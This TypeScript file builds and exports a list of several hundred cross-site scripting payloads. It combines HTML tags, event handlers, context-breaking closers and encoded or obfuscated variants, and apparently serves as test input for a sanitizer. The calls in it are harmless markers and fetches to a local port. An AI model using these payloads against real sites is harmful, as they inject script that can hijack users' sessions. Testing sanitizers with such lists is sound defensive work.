/** Ways in which markup and scripts are smuggled into a page: a tag, how it begins to run, and how it is written. */
const tags = ['script', 'img', 'svg', 'iframe', 'body', 'details', 'input', 'video', 'math', 'object', 'a', 'style'];
const starts = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle open',
  'onmouseover',
  'onanimationstart',
];
const calls = ['alert(1)', 'window.executed=1', 'fetch(`//127.0.0.1:1`)'];

const inTags = tags.flatMap(tag => starts.flatMap(start => calls.map(call => `<${tag} src=x ${start}=${call}>`)));
const closers = ['"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`}'].flatMap(closer =>
  calls.map(call => `${closer}<script>${call}</script>`),
);
const written = [
  'javascript:window.executed=1',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1)//<</script>',
  '<svg/onload=window.executed=1>',
  '<img src=x onerror="window.executed=1">',
  '$' + '{window.executed=1}',
  '{{constructor.constructor("window.executed=1")()}}',
  '\u202e<script>window.executed=1</script>',
  '<a href="javascript:window.executed=1">x</a>',
  '<form action="javascript:window.executed=1"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.executed=1">',
  '<base href="//127.0.0.1:1/">',
  '<link rel="stylesheet" href="//127.0.0.1:1/x.css">',
];

/** At least three hundred texts that would run a script where text is taken for markup. */
export const xssPayloads: readonly string[] = [...inTags, ...closers, ...written];
